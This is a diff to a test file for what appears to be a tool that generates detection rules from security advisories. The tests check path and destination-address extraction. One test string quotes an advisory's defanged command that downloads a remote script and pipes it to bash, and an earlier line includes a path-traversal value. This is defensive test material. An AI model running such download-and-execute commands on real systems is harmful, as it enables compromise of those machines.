@@ -156,3 +156,19 @@ it('a header’s value that climbs up is no path of the request', async () => {
   expect(rules.map(({ yaml }) => yaml).join()).toContain('/desk/../queue/put.pl');
   expect(rules.map(({ yaml }) => yaml).join()).not.toContain("'/../../'");
 });
+
+describe('what little an exploit says', () => {
+  it('a short path is asked for with its parameters, for longer paths begin with it', async () => {
+    const [rule] = await rulesOf('The intruders exploited it by requests to /fen?remote=false on the server.');
+    expect(rule?.yaml).toContain("'/fen'");
+    expect(rule?.yaml).toContain('remote=false');
+  });
+
+  it('an address in the web address of a later command is no sender of requests', async () => {
+    const text =
+      'The intruders exploited it by requests to /desk/attach.cgi?mode=import. As desk they ran `curl -fsSL hxxp://45.9.148[.]3/j.sh | bash`.';
+    const { rules } = generate(await markdownAdvisory(STORY + text), { targets: [] });
+    expect(rules.some(({ title }) => title.includes('Requests From Reported Address'))).toBe(false);
+    expect(rules.some(({ yaml }) => yaml.includes("DestinationIp: '45.9.148.3'"))).toBe(true);
+  });
+});
